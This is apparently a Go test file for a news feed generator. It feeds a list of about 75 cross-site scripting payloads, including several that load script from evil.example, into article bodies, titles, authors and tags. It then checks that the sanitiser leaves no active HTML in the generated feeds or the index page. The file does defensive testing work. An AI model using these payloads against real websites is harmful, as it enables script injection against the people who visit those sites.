package feedgen

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mmcdole/gofeed"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"feedgen/feedgen/article"
	"feedgen/internal/sitetest"
	"feedgen/layout"
	"feedgen/snapshot"
)

// xssVectors are classic cross-site scripting payloads (OWASP filter
// evasion cheat sheet and mutation XSS write-ups).
var xssVectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/xss.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC="jav	ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="&#0000106&#0000097vascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="http://ok.example/" onclick="alert(1)" onmouseover=alert(1)>x</a>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`,
	`<body onload=alert(1)>`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<style>@import 'http://evil.example/xss.css';</style>`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<div style="width: expression(alert(1));">x</div>`,
	`<p style="xss:expr/*XSS*/ession(alert('XSS'))">x</p>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1);">`,
	`<base href="javascript:alert(1)//">`,
	`<link rel="stylesheet" href="javascript:alert(1)">`,
	`<link rel=import href="http://evil.example/x.html">`,
	`<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button><input type=submit formaction=javascript:alert(1)></form>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<details open ontoggle=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<isindex action="javascript:alert(1)" type=submit value=x>`,
	`--><script>alert(1)</script>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`]]><script>alert(1)</script>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<video><source onerror="alert(1)">`,
	`<audio src=x onerror=alert(1)>`,
	`<video poster=javascript:alert(1)//></video>`,
	`<input autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>`,
	`<img src="x" style="x:\65xpression(alert(1))">`,
	`<a href="javas\x00cript:alert(1)">x</a>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<template><script>alert(1)</script></template>`,
	`"><script>alert(1)</script>`,
	`'';!--"<XSS>=&{()}`,
	`<a href="//evil.example/" target=_blank>x</a>`,
	`<blockquote cite="javascript:alert(1)">x</blockquote>`,
	`<img srcset="javascript:alert(1) 1x">`,
	`<object type="text/x-scriptlet" data="http://evil.example/scriptlet.html"></object>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<applet code="evil.class"></applet>`,
	`<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>`,
}

// forbiddenElements may never appear in sanitised content.
var forbiddenElements = map[string]bool{
	"script": true, "style": true, "iframe": true, "object": true, "embed": true, "applet": true,
	"frame": true, "frameset": true, "base": true, "meta": true, "link": true, "form": true,
	"button": true, "input": true, "textarea": true, "keygen": true, "isindex": true, "svg": true,
	"math": true, "animate": true, "set": true, "template": true, "noscript": true, "xml": true,
	"marquee": true, "body": true,
}

// urlAttributes hold URLs; only http, https, mailto and in-page anchors are
// acceptable in them.
var urlAttributes = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true, "xlink:href": true, "data": true,
	"poster": true, "background": true, "cite": true, "lowsrc": true, "dynsrc": true, "srcset": true,
	"srcdoc": true, "codebase": true, "longdesc": true, "usemap": true, "profile": true, "manifest": true,
	"to": true, "from": true, "values": true,
}

// unsafeHTML parses s as the HTML a reader would render and lists every
// active element, event handler, script URL and CSS expression in it. A
// page (the index) may have its own style element and relative links.
// Escaped text such as "&lt;script&gt;" is a text node and harmless.
func unsafeHTML(s string, page bool) []string {
	nodes, err := html.ParseFragment(strings.NewReader(s), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return []string{"unparseable: " + err.Error()}
	}
	var bad []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if forbiddenElements[n.Data] && !(page && n.Data == "style") {
				bad = append(bad, "<"+n.Data+">")
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if a.Namespace != "" {
					key = a.Namespace + ":" + key
				}
				val := strings.ToLower(strings.Map(func(r rune) rune {
					if r <= ' ' || r == 0x7f {
						return -1 // browsers ignore these inside schemes
					}
					return r
				}, a.Val))
				switch {
				case strings.HasPrefix(key, "on"):
					bad = append(bad, fmt.Sprintf("<%s %s>", n.Data, key))
				case key == "style" && (strings.Contains(val, "expression") || strings.Contains(val, "url(") || strings.Contains(val, "script:") || strings.Contains(val, "\\")):
					bad = append(bad, fmt.Sprintf("<%s style=%q>", n.Data, a.Val))
				case urlAttributes[key] && val != "" && !strings.HasPrefix(val, "#") &&
					!strings.HasPrefix(val, "http://") && !strings.HasPrefix(val, "https://") && !strings.HasPrefix(val, "mailto:") &&
					!(page && relativeURL(val)):
					bad = append(bad, fmt.Sprintf("<%s %s=%q>", n.Data, key, a.Val))
				}
				if strings.Contains(val, "javascript:") || strings.Contains(val, "vbscript:") || strings.Contains(val, "data:text/html") {
					bad = append(bad, fmt.Sprintf("<%s %s=%q>", n.Data, key, a.Val))
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return bad
}

// relativeURL reports whether u is a path reference (no scheme, no
// authority), which the index page uses for its own feed links.
func relativeURL(u string) bool {
	colon := strings.IndexByte(u, ':')
	return !strings.HasPrefix(u, "//") && (colon < 0 || strings.ContainsAny(u[:colon], "/?#"))
}

// yamlString quotes s for YAML: a JSON string is a YAML double-quoted
// scalar.
func yamlString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// xssSite writes one article per vector (in its body, title, description
// and author, and in the category name of its navigation line when the
// vector fits there) and one per vector that is a legal tag name, and
// generates the feeds.
func xssSite(t *testing.T) (*Generator, *snapshot.Snapshot) {
	t.Helper()
	dir := t.TempDir()
	for i, v := range xssVectors {
		nav := ""
		if !strings.ContainsAny(v, "[]\n") {
			nav = fmt.Sprintf("\n[返回%s](//news.example.com/category/x%d.html)｜[返回首页](//news.example.com/)\n", v, i)
		}
		art := fmt.Sprintf("---\ntitle: %s\ndate: 2023-01-01 00:%02d:%02d +0000\ndescription: %s\nauthor: %s\ncategories: [x%d]\n---\n<p>before</p>%s<p>after</p>\n\n<https://news.example.com/xss/%d.html>\n%s",
			yamlString(fmt.Sprintf("t%d %s", i, v)), i/60, i%60, yamlString(v), yamlString(v), i, v, i, nav)
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("body-%02d.txt", i)), []byte(art), 0o644); err != nil {
			t.Fatal(err)
		}
		if article.CheckName(v) == nil {
			tag := fmt.Sprintf("---\ntitle: tag %d\ndate: 2023-01-02\ntags: [%s]\n---\n<p>x</p>\n", i, yamlString(v))
			if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("tag-%02d.txt", i)), []byte(tag), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	cfg := sitetest.Config(t)
	cfg.Limit = 0
	return generate(t, dir, cfg)
}

// TestXSS proves that no vector survives as active content in any feed's
// HTML (content:encoded, Atom content and summary, JSON content_html), in
// any title or other text a reader might render as HTML, or in the index
// page, and that the feeds stay valid.
func TestXSS(t *testing.T) {
	t.Parallel()
	if len(xssVectors) < 40 {
		t.Fatalf("only %d vectors", len(xssVectors))
	}
	g, s := xssSite(t)
	tagArticles := 0
	for i, v := range xssVectors {
		if article.CheckName(v) == nil {
			tagArticles++
		}
		_ = i
	}
	// A vector article is either published or rejected for a stated reason
	// (never silently lost); body articles must all be published.
	for _, p := range g.Problems() {
		if strings.Contains(p.Path, "body-") {
			t.Errorf("vector article rejected: %v", p)
		}
	}
	parser := gofeed.NewParser()
	feeds := 0
	for _, p := range s.Paths() {
		body := s.Get(p).Body
		switch path := p; {
		case strings.HasSuffix(path, ".xml") || strings.HasSuffix(path, ".json"):
			feeds++
			f, err := parser.Parse(bytes.NewReader(body))
			if err != nil {
				t.Errorf("%s: %v", p, err)
				continue
			}
			texts := []string{f.Title, f.Description}
			for _, it := range f.Items {
				texts = append(texts, it.Title, it.Description, it.Content)
				for _, a := range it.Authors {
					texts = append(texts, a.Name)
				}
				texts = append(texts, it.Categories...)
			}
			for _, h := range texts {
				if bad := unsafeHTML(h, false); len(bad) > 0 {
					t.Errorf("%s: active content %v survives in %q", p, bad, h)
				}
			}
		case strings.HasSuffix(path, ".html"):
			checkIndexPage(t, p, body)
		}
	}
	if feeds < 3*(1+len(xssVectors)) {
		t.Errorf("only %d feed files", feeds)
	}
	if g.Articles() != len(xssVectors)+tagArticles {
		t.Errorf("%d articles published, want %d", g.Articles(), len(xssVectors)+tagArticles)
	}
	checkAll(t, s)
}

// checkIndexPage inspects the whole index page: its own stylesheet is the
// only style element, and nothing active comes from the articles.
func checkIndexPage(t *testing.T, p string, body []byte) {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("%s: %v", p, err)
	}
	var bodyHTML bytes.Buffer
	styles := 0
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode && n.Data == "style" {
			styles++
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if styles != 1 {
		t.Errorf("%s: %d style elements, want the page's own one", p, styles)
	}
	if err := html.Render(&bodyHTML, doc); err != nil {
		t.Fatal(err)
	}
	for _, b := range unsafeHTML(bodyHTML.String(), true) {
		// The page's own <meta charset>, <meta viewport> and <link
		// rel=alternate> elements are expected; anything else is not.
		if b == "<meta>" || b == "<link>" || b == "<body>" {
			continue
		}
		t.Errorf("%s: active content %s", p, b)
	}
	var check func(n *html.Node)
	check = func(n *html.Node) {
		if n.Type == html.ElementNode && (n.Data == "meta" || n.Data == "link") {
			for _, a := range n.Attr {
				if a.Key == "http-equiv" && strings.EqualFold(a.Val, "Content-Security-Policy") && attr(n, "content") == layout.PageCSP {
					continue // the page's own policy, and nothing else
				}
				if a.Key == "http-equiv" || (a.Key == "rel" && a.Val != "alternate") {
					t.Errorf("%s: <%s %s=%q>", p, n.Data, a.Key, a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			check(c)
		}
	}
	check(doc)
}

// TestTitleIsPlainText proves that markup and entities in front matter
// titles and authors become plain text, which every feed format requires
// and which keeps readers that render titles as HTML safe.
func TestTitleIsPlainText(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"AT&amp;T", "AT&T"},
		{"AT&T", "AT&T"},
		{"1 < 2 > 0", "1 < 2 > 0"},
		{"<em>Go</em> 1.26", "Go 1.26"},
		{"x</title><script>alert(1)</script>y", "xy"},
		{"&lt;img src=x onerror=alert(1)&gt;ok", "ok"},
		{"&amp;lt;b&amp;gt;ok", "ok"},
		{"河北<br>日报", "河北 日报"},
	}
	for _, tt := range tests {
		data := fmt.Sprintf("---\ntitle: %s\nauthor: %s\ndate: 2023-01-01\n---\n<p>x</p>\n", yamlString(tt.in), yamlString(tt.in))
		a, err := article.Parse("a.txt", []byte(data), testOpts)
		if err != nil {
			t.Errorf("%q: %v", tt.in, err)
			continue
		}
		if a.Title != tt.want || a.Author != tt.want {
			t.Errorf("%q: title %q, author %q, want %q", tt.in, a.Title, a.Author, tt.want)
		}
	}
	if _, err := article.Parse("a.txt", []byte("---\ntitle: \"<script>x</script>\"\ndate: 2023-01-01\n---\n"), testOpts); err == nil || !strings.Contains(err.Error(), "no title") {
		t.Errorf("title of markup only: err = %v, want no title", err)
	}
}

// TestNamesArePlainText proves that a tag or category with markup is
// refused (it would title a feed), that the category name of the
// navigation line and the summary are plain text.
func TestNamesArePlainText(t *testing.T) {
	t.Parallel()
	for _, tag := range []string{"<em>x", "&amp;", "<img src=x onerror=alert(1)>", "a<b"} {
		data := fmt.Sprintf("---\ntitle: t\ndate: 2023-01-01\ntags: [%s]\n---\n<p>x</p>\n", yamlString(tag))
		if _, err := article.Parse("a.txt", []byte(data), testOpts); err == nil || !strings.Contains(err.Error(), "contains markup") {
			t.Errorf("tag %q: err = %v, want contains markup", tag, err)
		}
	}
	for _, tag := range []string{"AT&T", "1<2", "C++", "%2e%2e"} {
		data := fmt.Sprintf("---\ntitle: t\ndate: 2023-01-01\ntags: [%s]\n---\n<p>x</p>\n", yamlString(tag))
		if _, err := article.Parse("a.txt", []byte(data), testOpts); err != nil {
			t.Errorf("tag %q: %v", tag, err)
		}
	}
	data := "---\ntitle: t\ndate: 2023-01-01\n---\n<p>use the &lt;b&gt; tag</p>\n\n[返回<b>河北</b>新闻](//news.example.com/category/hb.html)｜[返回首页](//news.example.com/)\n"
	a, err := article.Parse("a.txt", []byte(data), testOpts)
	if err != nil {
		t.Fatal(err)
	}
	if a.CategoryName != "河北新闻" {
		t.Errorf("category name %q", a.CategoryName)
	}
	if a.Summary != "use the tag" {
		t.Errorf("summary %q", a.Summary)
	}
}
